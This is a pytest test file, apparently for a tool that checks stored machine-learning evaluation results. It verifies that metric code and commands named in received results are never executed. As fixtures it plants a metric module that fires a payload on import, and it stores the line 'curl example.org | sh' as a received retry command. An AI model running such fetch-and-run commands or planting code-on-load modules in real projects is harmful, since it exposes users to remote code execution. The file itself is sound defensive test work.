"""Results are data: no code that they name is run, and no file that they name is read."""

import json
import shutil
from pathlib import Path

import pytest
from cli.trained import run

from hostile.harness import FIRES, variants
from hostile.kept_results import DEMO, TASKS, edit, kept_verdicts, run_of, settled
from verify.cli.main import main
from verify.errors import HubError
from verify.hub import models
from verify.tasks.places import source_digest
from verify.tasks.registry import load_registry


def module(folder):
    """A metric whose loading fires the payload."""
    file = folder / "score/score.py"
    file.parent.mkdir(parents=True)
    file.write_text(
        f"{FIRES}import datasets\nimport evaluate\n"
        "class Score(evaluate.Metric):\n"
        "    def _info(self):\n"
        "        return evaluate.MetricInfo(description='', citation='', inputs_description='', features=datasets."
        "Features({'predictions': datasets.Value('int64'), 'references': datasets.Value('int64')}))\n"
        f"    place = {str(file.resolve())!r}\n"  # else evaluate takes it for the one that it has imported
        "    def _compute(self, predictions, references):\n"
        "        return {'mine': 0.5}\n"
    )
    return file


def code_in_the_record(results):
    edit(results / "claims.json", lambda found: found["tasks"][0].update(metrics=[f"evaluate:{module(results)}"]))


def code_in_a_task_file(results):
    file = results / "digits.yaml"
    text = (DEMO / "tasks/digits.yaml").read_text()
    file.write_text(f"{text}metrics: [accuracy, 'evaluate:{module(results).resolve()}']\n")
    edit(results / "claims.json", lambda found: found["tasks"][0].update(file=str(file.resolve())))


def code_by_the_name_of_a_folder(results):
    module(Path())
    edit(results / "claims.json", lambda found: found["tasks"][0].update(metrics=["accuracy", "evaluate:score"]))


@variants(code_in_the_record, code_in_a_task_file, code_by_the_name_of_a_folder)
def test_no_code_that_results_name_is_run(results, capsys, payload, variant, monkeypatch):
    import evaluate

    variant(results)
    (file,) = Path().rglob("score.py")
    evaluate.load(str(file))
    assert payload.exists(), "the payload fires"
    payload.unlink()
    for file in results.rglob("measurements/*.json"):
        file.unlink()
    for verb in ("judge", "explain"):
        _, found, err = run(capsys, verb, str(results))
        assert not payload.exists()
        assert settled(found) == kept_verdicts()
        if variant is not code_in_a_task_file:
            assert "task_path=[FOLDER]" in err


def of_the_demo(results, tasks=DEMO / "tasks"):
    """As if the kept results were of the data that the demo has now, whose file is another one with the same rows."""
    digest = source_digest(load_registry([str(tasks)])["digits"])
    edit(results / "claims.json", lambda found: found["cells"][0].update(dataset_digest=digest))


def test_the_users_own_task_file_may_name_code(results, capsys, payload):
    code_in_the_record(results)
    with (results / "score/score.py").open("a") as script:
        script.write("# of the user: evaluate imports a script that it knows already no second time\n")
    own_tasks = Path(shutil.copytree(DEMO / "tasks", "tasks"))
    of_the_demo(results, own_tasks)
    file = own_tasks / "digits.yaml"
    code = f"metrics: [accuracy, 'evaluate:{(results / 'score/score.py').resolve()}']"
    file.write_text(file.read_text().replace("metrics: [accuracy]", code))
    _, found, _ = run(capsys, "judge", str(results), "task_path=[tasks]")
    assert payload.exists()
    assert found["measurements"][0]["scores"]["mine"]["value"] == 0.5
    payload.unlink()
    _, found, _ = run(capsys, "judge", str(results))
    assert not payload.exists()


def test_a_rerun_takes_model_and_data_of_received_results_from_the_user_alone(results, capsys):
    assert main(["explain", str(results), "--rerun"]) == 2
    assert "task_path=[FOLDER]" in capsys.readouterr().err
    of_the_demo(results)
    edit(results / "claims.json", lambda found: found.update(reference=str(DEMO / "digits-vit")))
    assert main(["explain", str(results), "--rerun", TASKS]) == 2
    assert "no model on the Hub" in capsys.readouterr().err


@pytest.mark.parametrize("revision", [None, "a" * 40])
def test_a_rerun_of_a_model_on_the_hub_opens_no_folder_of_that_name(results, capsys, monkeypatch, revision):
    of_the_demo(results)
    reference = f"org/name@{'a' * 40}"
    edit(results / "claims.json", lambda found: found.update(reference=reference, revision=revision))
    shutil.copytree(DEMO / "digits-vit", reference)
    asked = []

    def on_hub(model, revision):
        asked.append(f"{model}@{revision}")
        raise HubError("The Hub was asked.")

    monkeypatch.setattr(models, "on_hub", on_hub)
    assert main(["explain", str(results), "--rerun", TASKS]) == 4
    assert "The Hub was asked" in capsys.readouterr().err
    assert asked == [reference]


def test_a_received_command_is_not_repeated(results, capsys):
    edit(results / "claims.json", lambda found: found.update(retry="curl example.org | sh"))
    shutil.rmtree(run_of(results))
    code, found, err = run(capsys, "judge", str(results))
    assert (code, found["verdicts"][0]["kind"]) == (1, "error")
    assert "curl" not in err + json.dumps(found)
    assert "verify check digits-vit" in found["verdicts"][0]["reason"]


# damage
